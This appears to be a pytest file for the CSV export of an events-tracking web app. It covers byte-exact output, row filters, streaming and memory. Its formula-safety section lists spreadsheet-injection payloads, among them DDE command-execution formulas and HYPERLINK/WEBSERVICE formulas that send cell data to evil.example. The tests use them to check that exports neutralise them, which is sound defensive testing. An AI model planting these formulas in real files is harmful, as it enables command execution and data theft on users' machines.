"""/export.csv and `signalboard export`: exact bytes, same rows as the timeline, formula safety, streaming."""

from __future__ import annotations

import csv
import io
import itertools
import secrets
import socket
import threading
import time
import tracemalloc
import uuid
from datetime import UTC, date, datetime
from typing import Any

import httpx
import pytest
from sqlalchemy import text, update
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session

from app.auth.tokens import sha256
from app.csvio import FORMULA_TRIGGERS, HEADER, ParsedRow, neutralise, restore, write_lines
from app.models import ApiToken, Event
from app.queries.events import event_select
from app.queries.transfer import export as export_query
from app.queries.transfer.export import export_batches
from app.queries.transfer.export_lines import store_lines
from app.queries.transfer.imports import commit_import
from app.schemas import EventInput
from app.services.events import delete_event
from tests.conftest import Client, make_user
from tests.factories import event_data, from_mapping, make_event

FIXED = datetime(2025, 11, 20, 8, 30, 5, tzinfo=UTC)


def _pin_times(db: Session, *events: Event) -> None:
    db.execute(
        update(Event).where(Event.id.in_([e.id for e in events])).values(created_at=FIXED, updated_at=FIXED)
    )
    store_lines(db, [e.id for e in events])  # a write outside the services stores its lines itself


def bulk_events(db: Session, n: int, **overrides: Any) -> list[int]:
    """Many committed-in-transaction events quickly (the import's bulk path)."""
    rows = []
    for i in range(n):
        data = event_data(title=f"Bulk event {i} {secrets.token_hex(2)}", **overrides)
        rows.append(ParsedRow(i + 2, EventInput.model_validate(data)))
    return commit_import(db, rows, None, uuid.uuid4()).event_ids


def parse(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# ---- exact bytes ------------------------------------------------------------------------------------


def test_byte_exact_csv_for_a_small_fixture(client: Client, db: Session) -> None:
    awkward = make_event(
        db,
        title='=HYPERLINK("x") "quoted", with comma',
        kind="request",
        status="claimed",
        date="2025-10",
        date_end="2025-11",
        summary="Line one\nЛиния два; 中文",
        location="Caracas, VE",
        tags=["semi;colon", "caribbean"],
        countries=[
            {"code": "RUS", "role": "supplier"},
            {"code": "CHN", "role": "supplier"},
            {"code": "VEN", "role": "recipient"},
            {"code": "USA", "role": "target"},
        ],
        actors=[{"name": "Сергей Рябков", "role": "speaker"}, {"name": "Rostec; JSC", "role": "financier"}],
        systems=[
            {"designation": "Kalibr", "quantity": 4},
            {"designation": "Igla-S", "quantity_note": "as many as 14"},
        ],
        sources=[
            {
                "publisher": "TASS",
                "url": "https://tass.com/a",
                "reliability": "C",
                "credibility": 3,
                "quote": "-Nothing prevents us",
                "published": "2025-10-14",
            },
            {"publisher": "Reuters", "reliability": "B", "credibility": 2, "note": "'apostrophe"},
        ],
        stage_override=4,
    )
    plain = make_event(
        db,
        title="Plain",
        kind="statement",
        date="2018",
        summary="",
        tags=[],
        countries=[],
        actors=[],
        systems=[],
        sources=[],
    )
    _pin_times(db, awkward, plain)
    client.login("viewer")
    r = client.get("/export.csv?kind=request&kind=statement")
    assert r.status_code == 200
    a, p = awkward.id, plain.id
    expected = (
        b"id,date,date_end,title,kind,status,stage,stage_override,suppliers,recipients,targets,intermediaries,"
        b"actors,systems,location,tags,summary,source_publishers,source_urls,source_titles,source_dates,"
        b"source_grades,source_quotes,source_notes,source_origins,source_archive_urls,source_accessed,"
        b"source_files,origins,origin_count,likelihood,likelihood_rationale,confidence,confidence_rationale,links,"
        b"created_at,updated_at,version\r\n"
        + f'{a},2025-10,2025-11,"\'=HYPERLINK(""x"") ""quoted"", with comma",'.encode()
        + b"request,claimed,4,4,RUS; CHN,VEN,USA,,"
        + "Сергей Рябков (speaker); Rostec;; JSC (financier),Kalibr ×4; Igla-S [as many as 14],"
        '"Caracas, VE",semi;;colon; caribbean,"Line one\nЛиния два; 中文",TASS; Reuters,https://tass.com/a; ,'
        ",2025-10-14; ,C3; B2,'-Nothing prevents us; ,; 'apostrophe,,,,,TASS; Reuters,2,,,,,,"
        "2025-11-20T08:30:05Z,2025-11-20T08:30:05Z,1\r\n".encode()
        + f"{p},2018,,Plain,statement,reported,1,,,,,,,,,,,,,,,,,,,,,,,0,,,,,,".encode()
        + b"2025-11-20T08:30:05Z,2025-11-20T08:30:05Z,1\r\n"
    )
    assert r.content == expected
    excel = client.get("/export.csv?kind=request&kind=statement&bom=1")
    assert excel.content == b"\xef\xbb\xbf" + expected


def test_export_headers_name_the_date_and_filter(client: Client, db: Session) -> None:
    make_event(db)
    client.login("viewer")
    r = client.get("/export.csv?supplier=RUS&kind=offer")
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["cache-control"] == "no-store"
    disposition = r.headers["content-disposition"]
    today = date.today().isoformat()
    assert f'filename="signalboard-{today}-supplier-RUS_kind-offer.csv"' in disposition
    assert r.text.splitlines()[0] == ",".join(HEADER)
    everything = client.get("/export.csv")
    assert f"signalboard-{today}-all.csv" in everything.headers["content-disposition"]


def test_non_ascii_filter_gets_an_ascii_fallback_file_name(client: Client, db: Session) -> None:
    # The actor must exist: an unknown name is refused (tests/test_filter_policy.py).
    make_event(db, actors=[{"name": "Рябков", "role": "speaker"}])
    client.login("viewer")
    r = client.get("/export.csv", params={"actor": "Рябков"})
    assert r.status_code == 200
    disposition = r.headers["content-disposition"]
    disposition.encode("latin-1")
    assert "filename*=UTF-8''" in disposition and "%D0%A0" in disposition


# ---- the same rows as the timeline ------------------------------------------------------------------


def _variety(db: Session) -> None:
    kinds = ["statement", "offer", "transfer", "deployment", "request"]
    suppliers = ["RUS", "CHN", "IRN"]
    dates = ["2025-10-14", "2025-10", "2025", "2024-03-02", "2025-11-30", "2023"]
    for i, (kind, sup, day) in enumerate(
        itertools.islice(itertools.product(kinds, suppliers, dates), 0, 60, 2)
    ):
        make_event(
            db,
            title=f"Signal {i} about {kind} from {sup}",
            kind=kind,
            date=day,
            countries=[
                {"code": sup, "role": "supplier"},
                {"code": "VEN" if i % 2 else "SYR", "role": "recipient"},
            ],
            status=["reported", "claimed", "confirmed"][i % 3],
            tags=["even"] if i % 2 == 0 else ["odd"],
            actors=[{"name": "Sergei Ryabkov" if i % 3 else "Dmitry Peskov", "role": "speaker"}],
            systems=[{"designation": "Kalibr" if i % 4 else "Oreshnik"}],
            sources=[
                {
                    "publisher": "TASS" if i % 2 else "Reuters",
                    "reliability": "ABCDEF"[i % 6],
                    "credibility": 3,
                }
            ],
        )


FILTERS: list[dict[str, Any]] = [
    {},
    {"supplier": "RUS"},
    {"supplier": ["RUS", "CHN"]},
    {"recipient": "VEN", "kind": "offer"},
    {"country": "IRN"},
    {"kind": ["statement", "deployment"]},
    {"status": "claimed"},
    {"stage_min": "5"},
    {"from": "2025-10", "to": "2025-10"},
    {"from": "2025"},
    {"to": "2024-12-31"},
    {"actor": "sergei ryabkov"},
    {"system": "oreshnik"},
    {"source": "reuters"},
    {"reliability_max": "B"},
    {"tag": "odd", "supplier": "CHN"},
    {"q": "transfer"},
    {"kind": "transfer", "from": "2025-11-01", "recipient": "SYR"},
    {"target": "USA"},
]


@pytest.mark.parametrize("filters", FILTERS, ids=[str(f) or "all" for f in FILTERS])
def test_export_rows_equal_the_filtered_timeline(
    client: Client, db: Session, filters: dict[str, Any]
) -> None:
    _variety(db)
    f = from_mapping(filters)
    assert not f.errors
    expected = [str(i) for i in db.scalars(event_select(f).with_only_columns(Event.id))]
    client.login("viewer")
    r = client.get("/export.csv", params=filters)
    assert r.status_code == 200
    assert [row["id"] for row in parse(r.content)] == expected


def test_deleted_events_never_leave_in_an_export(client: Client, db: Session) -> None:
    keep = make_event(db, title="Kept")
    gone = make_event(db, title="Gone")
    delete_event(db, gone.id, None)
    client.login("viewer")
    ids = [row["id"] for row in parse(client.get("/export.csv").content)]
    assert str(keep.id) in ids and str(gone.id) not in ids


def test_bad_filters_are_a_422_with_the_reason(client: Client) -> None:
    client.login("viewer")
    r = client.get("/export.csv?country=Atlantis&stage_min=9&from=yesterday")
    assert r.status_code == 422
    assert "Atlantis" in r.text and "stage_min" in r.text and "yesterday" in r.text
    api = client.get("/export.csv?kind=nonsense", headers={"accept": "application/json"})
    assert api.status_code == 422 and "nonsense" in api.json()["detail"][0]["msg"]


def test_export_needs_a_login_and_any_role_will_do(client: Client, db: Session) -> None:
    assert client.get("/export.csv").status_code == 303
    client.login("viewer")
    assert client.get("/export.csv").status_code == 200


# ---- formula safety ---------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "==double",
    "+1",
    "+cmd|' /C notepad'!A0",
    "+SUM(A1:A9)",
    "-1",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "--flag",
    "@SUM(1,2)",
    "@cmd",
    "@",
    "\t=1+1",
    "\tleading tab",
    "\r=1+1",
    "\rcarriage",
    "\n=1+1",
    "\nnewline first",
    "'apostrophe",
    "''two apostrophes",
    "'=already escaped",
    "=",
    "+",
    "-",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=WEBSERVICE("http://evil.example")',
    "@@nested",
    "-@mixed",
    "+=-@",
    "=1;=2",
    "=Рябков",
]


def test_neutralise_and_restore_are_exact_inverses() -> None:
    assert len(PAYLOADS) >= 30
    assert {p[0] for p in PAYLOADS} >= FORMULA_TRIGGERS | {"'"}
    for payload in PAYLOADS:
        safe = neutralise(payload)
        assert safe[0] not in FORMULA_TRIGGERS, payload
        assert safe.startswith("'")
        assert restore(safe) == payload
    for harmless in ("Plain", "1+1", "a=b", "", "Рябков", " =space first"):
        assert neutralise(harmless) == harmless
        assert restore(neutralise(harmless)) == harmless


@pytest.mark.parametrize("field", ["title", "summary", "location", "quote", "actor", "tag", "note"])
def test_formula_payloads_leave_neutralised(client: Client, db: Session, field: str) -> None:
    usable = [
        p for p in PAYLOADS if p.strip(" \t\r\n") and (field not in ("title", "actor", "tag") or p.strip())
    ]
    for i, payload in enumerate(usable):
        # The input model strips whitespace at the ends, so put the payload in the middle of nothing.
        over: dict[str, Any] = {"title": f"payload {i}", "date": "2025-10-01"}
        if field in ("title", "summary", "location"):
            over[field] = payload
        elif field == "quote":
            over["sources"] = [{"publisher": "TASS", "quote": payload}]
        elif field == "note":
            over["sources"] = [{"publisher": "TASS", "note": payload}]
        elif field == "actor":
            over["actors"] = [{"name": payload, "role": "speaker"}]
        else:
            over["tags"] = [payload]
        make_event(db, **over)
    client.login("viewer")
    body = client.get("/export.csv").content
    for row in csv.reader(io.StringIO(body.decode(), newline="")):
        for cell in row:
            assert not cell or cell[0] not in FORMULA_TRIGGERS, (field, cell)
    column = {"quote": "source_quotes", "actor": "actors", "tag": "tags", "note": "source_notes"}.get(
        field, field
    )
    exported = {restore(r[column]) for r in parse(body)}
    for payload in usable:
        stored = payload.strip()
        if field == "title":
            stored = " ".join(stored.split())
        elif field == "tag":
            stored = stored.lower().replace(";", ";;")
        elif field == "actor":
            stored = stored.replace(";", ";;") + " (speaker)"
        elif field in ("quote", "note"):
            stored = stored.replace(";", ";;")
        assert stored in exported, (field, payload)


# ---- streaming and memory ---------------------------------------------------------------------------


def _peak_bytes(db: Session, batch: int) -> int:
    """The smaller traced peak of two full exports.

    tracemalloc counts every thread, and an app started by an earlier test may still be building its
    caches in the background; a growth with rows would show in both runs, a stray allocation in one.
    """
    f = from_mapping({})
    peaks = []
    for _ in range(2):
        tracemalloc.start()
        try:
            total = 0
            for chunk in write_lines(export_batches(db, f, batch=batch)):
                total += len(chunk)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert total > 0
        peaks.append(peak)
    return min(peaks)


@pytest.mark.slow
def test_memory_does_not_grow_with_rows(db: Session) -> None:
    bulk_events(db, 300)
    small = _peak_bytes(db, batch=100)
    bulk_events(db, 2700)
    count = db.scalar(text("SELECT count(*) FROM events WHERE deleted_at IS NULL"))
    assert count == 3000
    large = _peak_bytes(db, batch=100)
    # Ten times the rows, about the same peak: only a batch and a chunk are ever held.
    assert large < small * 1.5 + 200_000, (small, large)


@pytest.mark.slow
def test_response_starts_before_the_query_ends(
    engine: Engine, live_server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Thirty batches: the stages between the cursor and the socket (the fetch thread, the middleware's
    # hand-over) each hold one, so with two batches the server could finish before the client reads.
    monkeypatch.setattr(export_query, "BATCH", 100)
    with Session(engine) as s:
        user = make_user(s, "viewer")
        token = secrets.token_urlsafe(24)
        s.add(ApiToken(user_id=user.id, name="export test", token_hash=sha256(token), prefix=token[:8]))
        # ~18 MB of CSV against a client receive buffer held at 64 KB (below): the server cannot have
        # finished (and closed its cursor) before the client has read the first rows, however fast it is.
        bulk_events(s, 3000, summary="Long summary. " * 430)
        s.commit()
    with engine.connect() as conn:  # written with the events: the export then only FETCHes
        assert conn.scalar(text("SELECT count(*) FROM event_lines")) == 3000
    headers = {"Authorization": f"Bearer {token}"}
    # A fixed receive buffer: loopback would otherwise grow it to 32 MB and take the whole file at once.
    small_buffer = httpx.HTTPTransport(socket_options=[(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)])
    with (
        httpx.Client(transport=small_buffer, timeout=30) as web,
        web.stream("GET", f"{live_server}/export.csv", headers=headers) as r,
    ):
        assert r.status_code == 200
        chunks = r.iter_bytes()
        first = b""
        while first.count(b"\r\n") < 2:  # the header leaves at once; wait for the first rows
            first += next(chunks)
        # The first rows are here while the server-side cursor is still open, waiting for us.
        with engine.connect() as conn:
            open_cursors = conn.scalar(
                text(
                    "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                    "AND pid <> pg_backend_pid() AND state IN ('active', 'idle in transaction') "
                    "AND (query ILIKE 'FETCH FORWARD%' OR query ILIKE 'DECLARE%')"
                )
            )
        assert open_cursors == 1
        rest = b"".join(chunks)
    rows = (first + rest).count(b"\r\n") - 1
    assert rows == 3000
    assert first.count(b"\r\n") < 1500
    deadline = time.time() + 10
    while _cursors_open(engine) and time.time() < deadline:
        time.sleep(0.05)
    assert not _cursors_open(engine)


def _cursors_open(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(
            conn.scalar(
                text(
                    "SELECT count(*) FROM pg_stat_activity WHERE query ILIKE 'FETCH FORWARD%' "
                    "AND state <> 'idle' AND pid <> pg_backend_pid() AND datname = current_database()"
                )
            )
            or 0
        )


def _wide(monkeypatch: pytest.MonkeyPatch, wide: bool) -> None:
    """Make the export read as for a large share of the events (or a narrow one), whatever the count."""
    monkeypatch.setattr(export_query, "use_grouped_plan", lambda _s, _f: wide)


@pytest.mark.parametrize("wide", [False, True])
def test_an_export_left_early_closes_its_cursor_and_fetch_thread(
    db: Session, wide: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    _variety(db)
    _wide(monkeypatch, wide)
    batches = export_batches(db, from_mapping({}), batch=4)
    first = next(batches) + next(batches)
    batches.close()  # what a client that hangs up causes
    assert len(set(first)) == 8
    assert not [t for t in threading.enumerate() if t.name.startswith("export-fetch")]
    open_cursors = db.scalar(text("SELECT count(*) FROM pg_cursors WHERE name LIKE 'export%'"))
    assert open_cursors == 0
    # The transaction is still usable: the same session exports again, in full.
    assert sum(map(len, export_batches(db, from_mapping({})))) == 30


def test_the_wide_cursor_reads_forward_with_the_memory_it_was_planned_with(
    db: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    _variety(db)
    _wide(monkeypatch, True)
    batches = export_batches(db, from_mapping({}), batch=4)
    next(batches)  # the first FETCH has run the join and the sort
    # Forward only: a scrollable cursor over a sort that spills merges it into one more full copy first.
    scrollable = db.scalar(text("SELECT is_scrollable FROM pg_cursors WHERE name LIKE 'export%'"))
    assert scrollable is False
    # The sort and the hash table took work_mem when that FETCH ran them, not when the cursor was planned.
    assert db.scalar(text("SHOW work_mem")) == export_query.WIDE_LINE_SETTINGS["work_mem"].strip("'")
    # Lines made on the spot are still looked up by key.
    assert db.scalar(text("SHOW enable_nestloop")) == "on"
    batches.close()


def test_the_export_is_utf8_whatever_the_connection_encoding(db: Session) -> None:
    make_event(db, title="Рябков: 中文, café", actors=[{"name": "Сергей Рябков", "role": "speaker"}])
    expected = "Рябков: 中文, café"
    # A connection whose client encoding cannot even hold the text: the export asks for UTF-8 itself.
    db.execute(text("SET LOCAL client_encoding = 'LATIN1'"))
    body = b"".join(write_lines(export_batches(db, from_mapping({}))))
    assert [row["title"] for row in parse(body)] == [expected]
    db.execute(text("DELETE FROM event_lines"))  # made on the spot, through the same connection
    assert b"".join(write_lines(export_batches(db, from_mapping({})))) == body


def test_both_query_plans_give_the_same_rows(db: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    _variety(db)
    make_event(
        db,
        title="Awkward; one",
        tags=["x;y"],
        sources=[{"publisher": "A;B", "note": "n"}, {"publisher": "C"}],
    )
    for filters in FILTERS:
        f = from_mapping(filters)
        _wide(monkeypatch, False)
        narrow = list(export_batches(db, f))
        _wide(monkeypatch, True)
        wide = list(export_batches(db, f))
        assert narrow == wide, filters
    assert sum(map(len, export_batches(db, from_mapping({})))) == 31


def test_the_plan_follows_the_share_of_matching_events(db: Session) -> None:
    from app.queries.transfer.export import use_grouped_plan

    bulk_events(db, 2100, kind="offer")
    bulk_events(db, 100, kind="statement")
    assert use_grouped_plan(db, from_mapping({}))
    assert use_grouped_plan(db, from_mapping({"kind": "offer"}))
    assert not use_grouped_plan(db, from_mapping({"kind": "statement"}))


def test_readme_documents_every_column_in_order() -> None:
    from pathlib import Path

    from app.csvio import COLUMNS

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    section = readme.split("## CSV columns", 1)[1].split("\n## ", 1)[0]
    documented = [line.split("`")[1] for line in section.splitlines() if line.startswith("| `")]
    assert documented == [c.name for c in COLUMNS]
